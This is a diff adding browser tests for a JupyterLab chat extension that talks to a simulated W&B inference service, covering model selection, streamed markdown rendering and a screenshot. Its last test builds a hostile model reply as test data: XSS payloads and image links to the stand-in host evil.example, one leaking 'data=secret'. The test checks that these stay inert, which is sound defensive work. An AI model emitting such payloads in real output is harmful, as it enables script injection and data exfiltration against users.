@@ -1,0 +1,204 @@
+"""JupyterLab in headless Chromium, speaking to W&B's hosts as the tests play them: what a person sees and does."""
+
+from __future__ import annotations
+
+import os
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from browser import JupyterServer, Lab, chromium
+from conftest import clean_environment
+from playwright.sync_api import Browser, Page, expect
+from service import Streamed, Wandb, listing, usage
+
+pytestmark = pytest.mark.browser
+
+MODELS = ("meta-llama/Llama-3.1-8B-Instruct", "openai/gpt-oss-20b", "Qwen/Qwen3.8-27B", "zai-org/GLM-5.3-Flash")
+PICTURE = Path(__file__).parent.parent / "examples" / "wbchat.png"
+
+ANSWER = """\
+The **median** of a sample is its middle value: half of the data lie below it.
+
+- It is *robust*: an outlier hardly moves it.
+- For an even $n$ it is \\((x_{n/2} + x_{n/2+1})/2\\) of the sorted values.
+
+```python
+df["price"].median()
+```
+
+| statistic | moved by one outlier |
+|---|---|
+| mean | by as much as it likes |
+| median | hardly |
+"""
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Wandb]:
+    with Wandb(tmp_path_factory.mktemp("wandb")).running() as running:
+        running.api.listing = listing(*MODELS)
+        yield running
+
+
+@pytest.fixture(scope="module")
+def server(world: Wandb, tmp_path_factory: pytest.TempPathFactory) -> Iterator[JupyterServer]:
+    home = tmp_path_factory.mktemp("home")
+    work = home / "work"
+    work.mkdir()
+    environment = clean_environment(home) | world.environment | {"WANDB_API_KEY": "a-key-of-the-tests"}
+    with JupyterServer(work, environment).running() as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as running:
+        yield running
+
+
+@pytest.fixture
+def page(browser: Browser) -> Iterator[Page]:
+    context = browser.new_context(viewport={"width": 1000, "height": 900}, device_scale_factor=1.5)
+    page = context.new_page()
+    yield page
+    context.close()
+
+
+def pieces(text: str) -> list[str]:
+    return re.findall(r"\S*\s*", text)
+
+
+def test_load_pick_with_mouse_and_keyboard_and_chat(server: JupyterServer, world: Wandb, page: Page) -> None:
+    """The main job: the request that reaches the service names the model that was chosen."""
+    world.api.always = Streamed(pieces(ANSWER), per_second=40, counted=usage(31, 118))
+    lab = Lab.open(
+        server,
+        page,
+        "main-job.ipynb",
+        ["%load_ext wandb_inference_magic", "%wbmodels", "%%wbchat -t 0.2\nWhat is a median, and why use it?"],
+    )
+    lab.run(0)
+    expect(lab.output(0)).to_have_count(0)
+    lab.run(1)
+    picker = lab.output(1)
+    dropdown = picker.get_by_role("combobox", name="Model")
+    search = picker.get_by_role("textbox", name="Search")
+    expect(dropdown).to_have_value(re.compile("openai/gpt-oss-20b"))
+
+    # With the mouse: the facts beside it follow.
+    dropdown.select_option("zai-org/GLM-5.3-Flash")
+    expect(picker).to_contain_text("1.0M")
+    expect(picker).to_contain_text("text, image")
+    lab.run(2)
+    assert world.api.last.body["model"] == "zai-org/GLM-5.3-Flash"
+
+    # With the keyboard alone: search, Tab to the dropdown, open it, go down, choose.
+    search.focus()
+    expect(dropdown.locator("option")).to_have_count(4)
+    page.keyboard.type("llama")
+    # What matches, and the one in force.
+    expect(dropdown.locator("option")).to_have_count(2)
+    page.keyboard.press("Tab")
+    expect(dropdown).to_be_focused()
+    page.keyboard.press("Space")
+    page.keyboard.press("ArrowDown")
+    page.keyboard.press("Enter")
+    expect(picker).to_contain_text("131k")
+    lab.run(2)
+    assert world.api.last.body["model"] == "meta-llama/Llama-3.1-8B-Instruct"
+
+    # Changed any other way, the setting moves the dropdown.
+    search.fill("")
+    lab.cell(2).locator(".cm-content").click()
+    page.keyboard.press("Control+a")
+    page.keyboard.type("%wbconfig --model Qwen/Qwen3.8-27B")
+    lab.run(2)
+    expect(dropdown).to_have_value(re.compile("Qwen/Qwen3.8-27B"))
+
+
+def test_the_reply_grows_and_ends_tidy(server: JupyterServer, world: Wandb, page: Page) -> None:
+    """The text grows while it streams; in the end it is rendered whole, once, with its footer."""
+    world.api.always = Streamed(
+        pieces(ANSWER), per_second=40, counted=usage(31, 118), reasoning=["Simple words. ", "An example."]
+    )
+    lab = Lab.open(
+        server,
+        page,
+        "streaming.ipynb",
+        ["%load_ext wandb_inference_magic", "%wbmodels", "%%wbchat -t 0.2\nWhat is a median, and why use it?"],
+    )
+    lab.run(0)
+    lab.run(1)
+    expect(lab.output(1).get_by_role("combobox", name="Model")).to_be_visible()
+    lab.run(2, wait=False)
+    output = lab.cell(2).locator(".jp-OutputArea")
+    expect(output).to_contain_text("The median")
+    assert "hardly" not in output.inner_text().split("\n")[-1]
+    lab.wait_until_run(2)
+    expect(lab.output(2)).to_have_count(1)
+    rendered = lab.output(2)
+    expect(rendered.locator("strong")).to_have_text("median")
+    expect(rendered.locator("li")).to_have_count(2)
+    expect(rendered.locator("table td").first).to_have_text("mean")
+    expect(rendered.locator("pre")).to_contain_text('df["price"].median()')
+    expect(rendered.locator("mjx-container")).to_have_count(2)
+    expect(rendered).to_contain_text("31 + 118 tokens")
+    expect(rendered).to_contain_text("turn 1")
+    reasoning = rendered.locator("details")
+    expect(reasoning).not_to_have_attribute("open", re.compile(".*"))
+    reasoning.locator("summary").click()
+    expect(reasoning).to_contain_text("Simple words.")
+    reasoning.locator("summary").click()
+
+    saved = lab.save()
+    (saved_output,) = saved["cells"][2]["outputs"]
+    assert set(saved_output["data"]) == {"text/markdown", "text/plain"}
+    _take_picture(lab)
+
+
+def _take_picture(lab: Lab) -> None:
+    """Take the README's picture, when asked to; otherwise only see that it can be taken."""
+    target = PICTURE if os.environ.get("WRITE_PICTURE") else lab.server.folder / "picture.png"
+    target.parent.mkdir(exist_ok=True)
+    page = lab.page
+    page.set_viewport_size({"width": 1000, "height": 1000})
+    page.keyboard.press("Control+b")
+    page.locator(".jp-NotebookPanel-toolbar").click()
+    box = lab.cell(0).bounding_box()
+    end = lab.cell(2).bounding_box()
+    assert box is not None
+    assert end is not None
+    clip = {"x": box["x"], "y": box["y"], "width": box["width"], "height": end["y"] + end["height"] - box["y"]}
+    page.screenshot(path=target, clip=clip)
+    assert target.stat().st_size > 10_000
+
+
+def test_a_hostile_reply_is_inert(server: JupyterServer, world: Wandb, page: Page) -> None:
+    """No request leaves for another host, no dialog opens, no script runs, in a trusted, running notebook."""
+    hostile = (
+        'Hello <img src="http://evil.example/a.png" onerror="alert(1)"> <script>alert(2)</script>\n\n'
+        "![pixel](http://evil.example/b.png?data=secret) [click](javascript:alert(3)) ![ref][r]\n\n"
+        "[r]: http://evil.example/c.png\n\n<iframe src='http://evil.example/d'></iframe>\n\n"
+        "| a |\n|---|\n| ![x](http://evil.example/e.png) |\n\n```mermaid\ngraph TD; A-->B\n```\n\n</details> $x<img src=http://evil.example/f>$"
+    )
+    world.api.always = Streamed(
+        pieces(hostile), per_second=100, reasoning=["</details><img src=http://evil.example/g>"]
+    )
+    requests: list[str] = []
+    dialogs: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    lab = Lab.open(server, page, "hostile.ipynb", ["%load_ext wandb_inference_magic", "%%wbchat\nhi"])
+    lab.run(0)
+    lab.run(1)
+    rendered = lab.output(1)
+    expect(rendered).to_contain_text("Hello <img src=")
+    expect(rendered).to_contain_text("image: pixel (evil.example)")
+    assert rendered.locator("img, script, iframe").count() == 0
+    assert rendered.locator("a[href^='javascript']").count() == 0
+    # The footer stands outside what the reply could open.
+    expect(rendered.locator("small").last).to_contain_text("tokens")
+    assert dialogs == []
+    assert [url for url in requests if "evil.example" in url] == []
